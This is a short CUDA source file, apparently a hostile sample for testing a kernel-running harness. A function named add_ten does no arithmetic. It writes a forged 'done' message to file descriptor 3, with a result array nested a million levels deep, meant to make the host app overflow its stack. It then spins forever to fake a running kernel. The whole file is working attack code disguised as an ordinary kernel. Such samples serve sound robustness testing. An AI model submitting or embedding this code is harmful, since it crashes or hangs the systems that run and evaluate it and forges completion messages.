// Sends the app a "done" message whose run holds a value nested a million levels deep: copying or
// reading it recursively runs the app out of stack. Then waits, as if the kernel were still running.
#include <string.h>
#include <unistd.h>

__global__ void add_ten(const float* a, float* out, int n) {
  if (threadIdx.x != 0 || blockIdx.x != 0) return;
  const char head[] = "{\"op\":\"done\",\"id\":1,\"run\":{\"results\":", tail[] = "}}";
  const unsigned depth = 1000000, size = (sizeof head - 1) + 2 * depth + (sizeof tail - 1);
  unsigned char* frame = new unsigned char[4 + size];
  for (int i = 0; i < 4; ++i) frame[i] = static_cast<unsigned char>((size >> (8 * i)) & 0xff);
  unsigned char* at = frame + 4;
  memcpy(at, head, sizeof head - 1);
  at += sizeof head - 1;
  memset(at, '[', depth);
  memset(at + depth, ']', depth);
  memcpy(at + 2 * depth, tail, sizeof tail - 1);
  for (unsigned sent = 0; sent < 4 + size;) {
    const long n = write(3, frame + sent, 4 + size - sent);
    if (n <= 0) break;
    sent += static_cast<unsigned>(n);
  }
  for (;;) {
  }
}
